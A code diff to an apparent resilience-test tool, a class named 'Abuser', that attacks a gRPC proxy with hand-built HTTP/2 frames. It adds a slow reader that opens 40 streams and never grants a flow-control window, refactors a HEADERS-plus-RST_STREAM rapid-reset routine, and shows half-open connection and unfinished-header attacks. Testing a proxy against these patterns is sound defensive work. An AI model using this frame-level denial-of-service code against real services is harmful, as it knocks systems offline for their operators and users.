@@ -22,6 +22,7 @@ READERS = 40
 HALF_OPEN = 200
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SETTINGS = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
+CANCEL = bytes([0, 0, 0, 8])
 PING = bytes([0, 0, 8, 6, 0, 0, 0, 0, 0]) + bytes(8)
 UNFINISHED_HEADERS = bytes([0, 0, 1, 1, 0, 0, 0, 0, 1]) + b"\x83"
 """HEADERS of stream 1 without END_HEADERS: `:method: POST`, and the rest never comes."""
@@ -50,11 +51,16 @@ class Abuser:
         return aio.insecure_channel(self._target, options=[*unlimited, ("grpc.use_local_subchannel_pool", 1)])
 
     async def slow_reader(self) -> None:
-        """Open 40 downloads over one connection, and read none."""
-        channel = self._channel()
-        calls = [channel.unary_stream(self._path + DOWNLOAD)(b"") for _ in range(READERS)]
+        """Open 40 downloads over one connection, and open no window: grpcio reads ahead what nobody takes."""
+        connection = await self._connect()
+        if connection is None:
+            raise OSError("the proxy takes no connection")
+        _, writer = connection
+        for number in range(READERS):
+            stream = (1 + 2 * number).to_bytes(4, "big")
+            message = (5).to_bytes(3, "big") + b"\x00\x01" + stream + bytes(5)  # DATA, END_STREAM
+            writer.write(self._headers(stream, DOWNLOAD) + message)
         await asyncio.Event().wait()
-        del calls
 
     async def big_answers(self) -> None:
         """Send 8 MB and get them back, two calls at a time."""
@@ -113,24 +119,27 @@ class Abuser:
                 answers.cancel()
                 writer.close()
 
-    def _reset(self, stream: int) -> bytes:
+    def _reset(self, number: int) -> bytes:
         """Return the HEADERS of a call and the RST_STREAM that follows."""
+        stream = number.to_bytes(4, "big")
+        return self._headers(stream, SHORT) + (4).to_bytes(3, "big") + b"\x03\x00" + stream + CANCEL
+
+    def _headers(self, stream: bytes, method: str) -> bytes:
+        """Return the HEADERS frame of a call."""
         fields = (
             (":method", "POST"),
             (":scheme", "http"),
-            (":path", self._path + SHORT),
+            (":path", self._path + method),
             (":authority", self._authority),
             ("content-type", "application/grpc"),
+            ("te", "trailers"),
         )
         # Literals without an index (RFC 7541, 6.2.2); each text has less than 127 bytes.
         block = b"".join(
             b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
             for name, value in fields
         )
-        headers = len(block).to_bytes(3, "big") + b"\x01\x04" + stream.to_bytes(4, "big") + block
-        return (
-            headers + (4).to_bytes(3, "big") + b"\x03\x00" + stream.to_bytes(4, "big") + bytes([0, 0, 0, 8])
-        )
+        return len(block).to_bytes(3, "big") + b"\x01\x04" + stream + block
 
     async def half_open(self) -> None:
         """Keep 200 connections open that begin HTTP/2, and never send a call."""
